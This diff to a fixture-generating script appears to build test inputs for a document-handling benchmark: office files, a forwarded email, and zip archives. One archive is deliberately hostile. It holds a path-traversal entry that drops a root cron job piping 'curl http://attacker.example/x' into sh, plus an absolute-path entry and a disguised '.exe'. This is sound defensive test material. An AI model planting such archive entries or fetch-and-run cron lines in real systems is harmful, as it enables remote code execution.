@@ -19,6 +19,8 @@ office() { # source target-extension output-name
 }
 office claim-letter.fodt docx claim-letter.docx
 office ten-page-report.fodt docx ten-page-report.docx
+# The same ten pages as a native PDF: the benchmark's yardstick for the Word file's rendition.
+office ten-page-report.fodt pdf ten-page-report.pdf
 office damaged-items.fods xlsx damaged-items.xlsx
 office fleet-renewal.fodp pptx fleet-renewal.pptx
 office claim-letter.fodt doc claim-letter-1997.doc
@@ -43,4 +45,29 @@ with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED, compresslevel=9) as
         for _ in range(128 * 1024 * 1024 // len(chunk)):
             f.write(chunk)
         f.write(b"</w:body></w:document>")
+PY
+
+# An email forwarded by the customer: text and HTML bodies, an inline logo (cid:), a PDF attached,
+# and what must never run or load: a script, a form, a tracking pixel, a remote image, styles with url().
+python3 "$here/forwarded-email.py" "$files/logo.png" "$files/claim-form.pdf" "$files/forwarded-estimate.eml"
+
+# Archives: photos and documents in folders; and a hostile one whose names climb out of any folder.
+python3 - "$files" <<'PY'
+import sys, zipfile
+files = sys.argv[1]
+fixed = (2026, 3, 12, 9, 30, 0)
+def add(z, name, data):
+    info = zipfile.ZipInfo(name, fixed)
+    info.compress_type = zipfile.ZIP_DEFLATED
+    z.writestr(info, data)
+with zipfile.ZipFile(f"{files}/claim-photos.zip", "w") as z:
+    add(z, "photos/rear.jpg", open(f"{files}/damage-photo.jpg", "rb").read())
+    add(z, "photos/front.jpg", open(f"{files}/damage-front.jpg", "rb").read())
+    add(z, "documents/claim-form.pdf", open(f"{files}/claim-form.pdf", "rb").read())
+    add(z, "documents/2025/old-invoice.pdf", open(f"{files}/old-invoice.pdf", "rb").read())
+with zipfile.ZipFile(f"{files}/hostile.zip", "w") as z:
+    add(z, "../../../etc/cron.d/update", "* * * * * root curl http://attacker.example/x | sh\n")
+    add(z, "/tmp/owned.txt", "absolute path\n")
+    add(z, "invoice.pdf.exe", b"MZ" + b"\0" * 64)
+    add(z, "more/archive.zip", b"PK\x05\x06" + b"\0" * 18)
 PY
